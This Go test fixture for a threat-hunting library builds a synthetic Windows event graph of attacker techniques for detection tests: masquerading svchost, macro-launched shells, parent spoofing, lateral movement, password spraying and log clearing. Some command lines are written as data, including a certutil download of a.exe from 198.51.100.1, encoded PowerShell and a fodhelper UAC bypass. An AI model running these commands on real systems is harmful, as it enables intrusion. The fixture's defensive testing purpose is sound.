package hunts_test

import (
	"cmp"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/procgraph/procgraph/graph"
)

// The people and computers of the fixture.
const (
	alpha, beta, gamma = "h:alpha", "h:beta", "h:gamma"

	ann, adm, fresh, idle = "u:ann", "u:adm", "u:fresh", "u:idle"
	machine, system       = "u:alpha$", "u:S-1-5-18"
	anonymous             = "u:S-1-5-7"
)

// world is a small case in which every hunt has a hit and a near miss.
type world struct {
	graphs map[string]*graph.HostGraph
	begin  time.Time
	pid    int64
}

func directory() ([]graph.Host, []graph.User) {
	hosts := []graph.Host{
		{Key: alpha, Name: "alpha.example.test", Addresses: []string{"10.0.0.1"}},
		{Key: beta, Name: "beta.example.test", Addresses: []string{"10.0.0.2"}},
		{Key: gamma, Name: "gamma.example.test"},
	}
	users := []graph.User{
		{Key: adm, Name: `EX\adm`, Kind: graph.AccountUser}, {Key: machine, Name: `EX\alpha$`, Kind: graph.MachineUser},
		{Key: ann, Name: `EX\ann`, Kind: graph.AccountUser}, {Key: fresh, Name: `EX\fresh`, Kind: graph.AccountUser},
		{Key: idle, Name: `EX\idle`, Kind: graph.AccountUser},
		{Key: anonymous, SID: "S-1-5-7", Name: `NT AUTHORITY\ANONYMOUS LOGON`, Kind: graph.AnonymousUser},
		{Key: system, SID: "S-1-5-18", Name: `NT AUTHORITY\SYSTEM`, Kind: graph.WellKnownUser},
	}
	for i := range 5 {
		users = append(users, graph.User{Key: fmt.Sprintf("u:tried%d", i), Name: fmt.Sprintf(`EX\tried%d`, i), Kind: graph.AccountUser})
	}
	slices.SortFunc(users, func(a, b graph.User) int { return cmp.Compare(a.Key, b.Key) })
	return hosts, users
}

// at is a moment so many minutes into the case.
func (w *world) at(minutes float64) graph.Time {
	return graph.TimeOf(w.begin.Add(time.Duration(minutes*float64(time.Minute))), 7)
}

func (w *world) host(key string) *graph.HostGraph {
	if w.graphs[key] == nil {
		w.graphs[key] = &graph.HostGraph{}
	}
	return w.graphs[key]
}

type option func(*graph.Process)

func by(user string) option { return func(p *graph.Process) { p.User = user } }
func in(session string) option {
	return func(p *graph.Process) { p.Session = session }
}
func says(command string) option {
	return func(p *graph.Process) { p.CommandLine = command }
}
func level(l string) option { return func(p *graph.Process) { p.IntegrityLevel = l } }
func named(original string) option {
	return func(p *graph.Process) { p.OriginalFileName = original }
}
func hashed(sha256 string) option {
	return func(p *graph.Process) { p.Hashes = map[string]string{"SHA256": sha256} }
}
func until(t graph.Time) option { return func(p *graph.Process) { p.End = t } }

// start adds a process; its key is the host's with the name. A parent begins with "~" where the link is inferred.
func (w *world) start(host, name, parent string, minutes float64, image string, options ...option) {
	w.pid += 4
	pid := w.pid + 1000
	p := graph.Process{Key: process(host, name), Host: host, PID: &pid, Image: image, Start: w.at(minutes), Observed: true, ParentVia: "guid"}
	if inferred, ok := strings.CutPrefix(parent, "~"); ok {
		parent, p.ParentVia = inferred, "pid-time"
	}
	if parent == "" {
		p.ParentVia = ""
	} else {
		p.Parent = process(host, parent)
	}
	for _, o := range options {
		o(&p)
	}
	g := w.host(host)
	g.Processes = append(g.Processes, p)
}

func process(host, name string) string { return "p:" + strings.TrimPrefix(host, "h:") + ":" + name }

// stub adds a process that is known by reference only.
func (w *world) stub(host, name, image string, pid int64) {
	g := w.host(host)
	g.Processes = append(g.Processes, graph.Process{Key: process(host, name), Host: host, PID: &pid, Image: image})
}

func (w *world) logon(s graph.LogonSession, minutes float64) {
	s.Start, s.Observed = w.at(minutes), true
	g := w.host(s.Host)
	g.Sessions = append(g.Sessions, s)
}

func (w *world) attempt(a graph.LogonAttempt, minutes float64) {
	a.Time, a.Count = w.at(minutes), max(a.Count, 1)
	g := w.host(a.Host)
	a.Key = fmt.Sprintf("a:%s:%03d", strings.TrimPrefix(a.Host, "h:"), len(g.Attempts))
	g.Attempts = append(g.Attempts, a)
}

const windows, system32 = `C:\Windows\`, `C:\Windows\System32\`

// newWorld tells the whole story, in chapters named after what hunts for them.
func newWorld() map[string]*graph.HostGraph {
	w := &world{graphs: map[string]*graph.HostGraph{}, begin: time.Date(2025, 1, 6, 8, 0, 0, 0, time.UTC)}
	w.boot()
	w.masks()
	w.documents()
	w.disagreements()
	w.remote()
	w.accounts()
	w.guesses()
	w.commands()
	w.clearing()
	for _, g := range w.graphs {
		slices.SortFunc(g.Processes, func(a, b graph.Process) int { return cmp.Compare(a.Key, b.Key) })
		slices.SortFunc(g.Sessions, func(a, b graph.LogonSession) int { return cmp.Compare(a.Key, b.Key) })
		slices.SortFunc(g.Warnings, func(a, b graph.Warning) int { return cmp.Compare(a.Key, b.Key) })
	}
	return w.graphs
}

// boot is Windows as it should be.
func (w *world) boot() {
	w.stub(alpha, "system", "", 4)
	w.start(alpha, "smss", "system", 0, system32+"smss.exe", by(system))
	w.start(alpha, "wininit", "smss", 0.1, system32+"wininit.exe", by(system))
	w.start(alpha, "services", "wininit", 0.2, system32+"services.exe", by(system), level("System"), in("s:alpha:0x3e7"))
	w.start(alpha, "svchost", "services", 0.3, system32+"svchost.exe", by(system), level("System"), in("s:alpha:0x3e7"))
	w.start(alpha, "explorer", "", 1, windows+"explorer.exe", by(ann), level("Medium"), in("s:alpha:desk"))
	g := w.host(alpha)
	g.Sessions = append(g.Sessions, graph.LogonSession{Key: "s:alpha:0x3e7", Host: alpha, LogonID: "0x3e7", User: system, BuiltIn: true})
	w.logon(graph.LogonSession{Key: "s:alpha:desk", Host: alpha, LogonID: "0x11", LogonType: 2, User: ann, SourceLocal: true, SourceIP: "127.0.0.1"}, 1)
	w.start(beta, "explorer", "", 1, windows+"explorer.exe", by(adm), level("Medium"))
	w.start(gamma, "explorer", "", 1, windows+"explorer.exe", by(idle), level("Medium"))
}

// masks bear the names of Windows.
func (w *world) masks() {
	w.start(alpha, "fake", "explorer", 20, `C:\Users\Public\svchost.exe`, by(ann))
	w.start(alpha, "device", "services", 20, `\Device\HarddiskVolume3\Windows\System32\svchost.exe`)
	w.start(alpha, "wmi", "svchost", 20, system32+`wbem\WmiPrvSE.exe`, by(system))
	w.start(alpha, "bare", "services", 20, "svchost.exe")
	w.start(alpha, "store", "services", 20, windows+`WinSxS\amd64_x_31bf\svchost.exe`)
	w.start(alpha, "variable", "services", 20, `%SystemRoot%\system32\svchost.exe`)
	w.start(alpha, "direct", "services", 20, windows+"svchost.exe", by(system), level("System"))
	w.stub(alpha, "nameless", "", 900)
	w.start(alpha, "orphan", "nameless", 20, system32+"svchost.exe")
}

// documents lead to shells.
func (w *world) documents() {
	w.start(alpha, "word", "explorer", 30, `C:\Program Files\Office\WINWORD.EXE`, by(ann), level("Medium"))
	w.start(alpha, "macro", "word", 31, system32+"cmd.exe", by(ann), level("Medium"), in("s:alpha:desk"))
	w.start(alpha, "second", "macro", 32, system32+`WindowsPowerShell\v1.0\powershell.exe`, by(ann), level("Medium"))
	w.start(alpha, "deep1", "word", 33, `C:\Tools\a.exe`, by(ann))
	w.start(alpha, "deep2", "deep1", 33, `C:\Tools\b.exe`, by(ann))
	w.start(alpha, "deep3", "deep2", 33, `C:\Tools\c.exe`, by(ann))
	w.start(alpha, "deep4", "deep3", 33, system32+"cmd.exe", by(ann))
	w.start(alpha, "web", "services", 34, windows+`System32\inetsrv\w3wp.exe`, by(system), level("System"))
	w.start(alpha, "renamed", "web", 35, `C:\inetpub\temp\x.exe`, by(system), level("System"), named("Cmd.Exe"))
	w.start(alpha, "chrome", "explorer", 36, `C:\Program Files\Google\chrome.exe`, by(ann), level("Medium"))
	w.start(alpha, "extension", "chrome", 36, system32+"cmd.exe", by(ann), level("Medium"),
		says(`cmd.exe /d /c "helper.exe" chrome-extension://abc/ < \\.\pipe\chrome.nativeMessaging.in`))
	w.start(alpha, "renderer", "chrome", 37, `C:\Program Files\Google\chrome.exe`, by(ann), level("Low"))
	w.start(alpha, "prompt", "explorer", 38, system32+"cmd.exe", by(ann), level("High"))
}

// disagreements are parents that two sources name differently.
func (w *world) disagreements() {
	claim := func(name string, claims ...graph.ParentClaim) {
		w.start(alpha, name, "explorer", 40, `C:\Tools\`+name+".exe", by(ann), level("Medium"),
			func(p *graph.Process) { p.ParentClaims = claims })
		g := w.host(alpha)
		g.Warnings = append(g.Warnings, graph.Warning{Key: "w:parent-mismatch:" + process(alpha, name), Class: graph.ParentMismatch,
			About: process(alpha, name), Host: alpha})
	}
	claim("spoofed", graph.ParentClaim{Parent: process(alpha, "explorer"), Source: "sysmon"}, graph.ParentClaim{Parent: process(alpha, "second"), Source: "security"})
	claim("elevated", graph.ParentClaim{Parent: process(alpha, "explorer"), Source: "sysmon"}, graph.ParentClaim{Parent: process(alpha, "svchost"), Source: "security"})
}

// remote is a walk from beta over alpha to gamma.
func (w *world) remote() {
	w.logon(graph.LogonSession{Key: "s:alpha:net", Host: alpha, LogonID: "0x21", LogonType: 3, User: adm, SourceIP: "10.0.0.2", SourceHost: beta, AuthPackage: "Kerberos", End: w.at(130)}, 60)
	w.start(alpha, "remote", "wmi", 61, system32+"cmd.exe", by(adm), level("High"), in("s:alpha:net"), until(w.at(62)))
	w.start(alpha, "child", "remote", 61.5, system32+"whoami.exe", by(adm), level("High"), in("s:alpha:net"), until(w.at(62)))
	w.start(alpha, "psexec", "services", 61.7, windows+"PSEXESVC.exe", by(system), level("System"), in("s:alpha:0x3e7"))
	w.start(alpha, "possible", "psexec", 61.8, system32+"cmd.exe", by(system), level("System"), in("s:alpha:0x3e7"))
	// Anonymous and machine logons come with every use of a share: no account, no origin.
	w.logon(graph.LogonSession{Key: "s:alpha:anon", Host: alpha, LogonID: "0x22", LogonType: 3, User: anonymous, SourceIP: "10.0.0.2", AuthPackage: "Negotiate", End: w.at(62)}, 61.78)
	w.logon(graph.LogonSession{Key: "s:alpha:machine", Host: alpha, LogonID: "0x23", LogonType: 3, User: machine, SourceIP: "10.0.0.2", AuthPackage: "Kerberos", End: w.at(62)}, 61.79)
	w.start(alpha, "late", "wmi", 70, system32+"cmd.exe", by(system), level("System"), in("s:alpha:0x3e7"))
	w.logon(graph.LogonSession{Key: "s:gamma:net", Host: gamma, LogonID: "0x31", LogonType: 3, User: adm, SourceIP: "10.0.0.1", SourceHost: alpha, AuthPackage: "NTLM"}, 80)
	w.start(gamma, "landed", "", 81, system32+"whoami.exe", by(adm), level("High"), in("s:gamma:net"))
	// Somebody else's logon is later than that of the shell's user.
	w.logon(graph.LogonSession{Key: "s:gamma:asker", Host: gamma, LogonID: "0x36", LogonType: 3, User: ann, SourceIP: "10.0.0.88", AuthPackage: "Kerberos", End: w.at(83)}, 80.5)
	w.logon(graph.LogonSession{Key: "s:gamma:other", Host: gamma, LogonID: "0x37", LogonType: 3, User: idle, SourceIP: "10.0.0.89", AuthPackage: "Kerberos", End: w.at(83)}, 80.8)
	w.start(gamma, "winrm", "", 81.1, system32+"wsmprovhost.exe", by(ann), level("High"), until(w.at(83)))
	w.start(gamma, "asked", "winrm", 81.2, system32+"cmd.exe", by(ann), level("High"), until(w.at(83)))
	w.logon(graph.LogonSession{Key: "s:gamma:rdp", Host: gamma, LogonID: "0x32", LogonType: 10, User: idle, SourceIP: "10.0.0.77"}, 2)
	w.start(gamma, "remote-desk", "", 3, windows+"explorer.exe", by(idle), level("Medium"), in("s:gamma:rdp"))
	// Ann was on gamma before she came to alpha: no chain.
	w.logon(graph.LogonSession{Key: "s:gamma:ann", Host: gamma, LogonID: "0x33", LogonType: 3, User: ann, SourceIP: "10.0.0.1", SourceHost: alpha, AuthPackage: "Kerberos", End: w.at(6)}, 5)
	w.logon(graph.LogonSession{Key: "s:alpha:ann", Host: alpha, LogonID: "0x34", LogonType: 3, User: ann, SourceIP: "10.0.0.2", SourceHost: beta, AuthPackage: "Kerberos", End: w.at(8)}, 7)
	// The same address as the host's own is no move, and a batch logon has no source.
	w.logon(graph.LogonSession{Key: "s:alpha:loop", Host: alpha, LogonID: "0x35", LogonType: 3, User: ann, SourceIP: "::1", SourceLocal: true, AuthPackage: "Negotiate", End: w.at(9)}, 8)
}

// accounts are given by hand, new, or refused.
func (w *world) accounts() {
	w.start(alpha, "runas", "explorer", 90, system32+"runas.exe", by(ann), level("Medium"), says("runas /user:adm cmd"))
	w.start(alpha, "asadm", "runas", 90.1, `C:\Tools\tool.exe`, by(adm), level("Medium"), in("s:alpha:open"))
	w.logon(graph.LogonSession{Key: "s:alpha:open", Host: alpha, LogonID: "0x41", LogonType: 2, User: adm, SourceLocal: true, SourceIP: "::1"}, 90)
	w.attempt(graph.LogonAttempt{EventID: 4648, Host: alpha, User: ann, TargetUser: adm, TargetHost: "localhost", Process: process(alpha, "runas")}, 90)
	w.attempt(graph.LogonAttempt{EventID: 4648, Host: alpha, User: ann, TargetUser: adm, TargetHost: "localhost", Process: process(alpha, "runas")}, 91)
	w.attempt(graph.LogonAttempt{EventID: 4648, Host: alpha, User: ann, TargetUser: ann, TargetHost: "localhost"}, 92)
	w.attempt(graph.LogonAttempt{EventID: 4648, Host: alpha, User: machine, TargetUser: adm, TargetHost: "gamma.example.test"}, 93)
	w.logon(graph.LogonSession{Key: "s:alpha:clear", Host: alpha, LogonID: "0x42", LogonType: 8, User: ann, AuthPackage: "Negotiate", SourceIP: "10.0.0.80", End: w.at(95)}, 94)
	// Two days later: an account without a past, and one that was refused as disabled.
	w.start(beta, "debut", "", 48*60, `C:\Tools\tool.exe`, by(fresh), level("Medium"))
	w.start(alpha, "again", "explorer", 48*60, `C:\Tools\tool.exe`, by(ann), level("Medium"))
	w.attempt(graph.LogonAttempt{EventID: 4625, Host: gamma, TargetUser: idle, SourceIP: "10.0.0.9", Status: "0xc000006e", SubStatus: "0xc0000072"}, 95)
	w.attempt(graph.LogonAttempt{EventID: 4625, Host: gamma, TargetUser: ann, SourceIP: "10.0.0.9", Status: "0xc000006d", SubStatus: "0xc000006a"}, 95)
}

// guesses are failures, and what followed them.
func (w *world) guesses() {
	fail := func(source, target string, minutes float64) {
		w.attempt(graph.LogonAttempt{EventID: 4625, Host: beta, TargetUser: target, SourceIP: source, LogonType: 3, Status: "0xc000006d"}, minutes)
	}
	for i := range 5 {
		fail("10.0.0.66", fmt.Sprintf("u:tried%d", i), 200+float64(i)*9)  // a spray
		fail("10.0.0.67", fmt.Sprintf("u:tried%d", i), 200+float64(i)*11) // pauses too long
		if i < 4 {
			fail("10.0.0.68", fmt.Sprintf("u:tried%d", i), 200) // one account too few
		}
	}
	for i := range 10 {
		fail("10.0.0.69", ann, 300+float64(i)) // then she gets in
		fail("10.0.0.70", ann, 300+float64(i)) // and here never
	}
	for _, s := range []struct {
		name, source, user string
		minutes            float64
	}{{"sprayed", "10.0.0.66", "u:tried3", 250}, {"guessed", "10.0.0.69", ann, 312}, {"other", "10.0.0.70", adm, 312}} {
		w.logon(graph.LogonSession{Key: "s:beta:" + s.name, Host: beta, LogonID: "0x5", LogonType: 3, User: s.user, SourceIP: s.source, AuthPackage: "Kerberos", End: w.at(s.minutes + 1)}, s.minutes)
	}
}

// commands are told by their command lines, integrity or hash.
func (w *world) commands() {
	w.start(alpha, "fetch", "macro", 100, system32+"certutil.exe", by(ann), level("Medium"), says("certutil.exe -URLCache -f http://198.51.100.1/a a.exe"))
	w.start(alpha, "digest", "macro", 100, system32+"certutil.exe", by(ann), level("Medium"), says("certutil.exe -hashfile a.exe"))
	w.start(alpha, "encoded", "macro", 101, system32+"powershell.exe", by(ann), level("Medium"), says("powershell -NoP -Enc ZQBjAGgAbwA="))
	w.start(alpha, "plain", "macro", 101, system32+"powershell.exe", by(ann), level("Medium"), says("powershell -ExecutionPolicy Bypass -File a.ps1"))
	w.start(alpha, "long", "macro", 102, system32+"cmd.exe", by(ann), level("Medium"), says("cmd /c "+strings.Repeat("x", 4000)))
	for i := range 5 {
		w.start(alpha, fmt.Sprintf("agent%d", i), "services", 103+float64(i), system32+"powershell.exe", by(system), level("System"), says("powershell -EncodedCommand QQBnAGUAbgB0AA=="))
	}
	w.start(alpha, "low", "explorer", 110, `C:\Tools\tool.exe`, by(ann), level("Medium"), hashed("AA"))
	w.start(alpha, "bypass", "low", 111, system32+"fodhelper.exe", by(ann), level("High"), hashed("BB"))
	w.start(beta, "low", "explorer", 110, `C:\Tools\tool.exe`, by(adm), level("Medium"), hashed("AA"), until(w.at(120)))
}

// clearing is a log that somebody emptied.
func (w *world) clearing() {
	g := w.host(gamma)
	g.Warnings = append(g.Warnings, graph.Warning{Key: "w:log-cleared:gamma:1", Class: graph.LogClearedWarning, About: gamma, Host: gamma,
		Log: "security", Time: w.at(400), User: adm, Detail: "the security log was cleared"})
	w.start(gamma, "before", "explorer", 396, `C:\Tools\before.exe`, by(adm))
	w.start(gamma, "after", "explorer", 404, `C:\Tools\after.exe`, by(adm))
	w.start(gamma, "early", "explorer", 394.9, `C:\Tools\early.exe`, by(adm))
	w.start(beta, "elsewhere", "explorer", 400, `C:\Tools\elsewhere.exe`, by(adm))
}
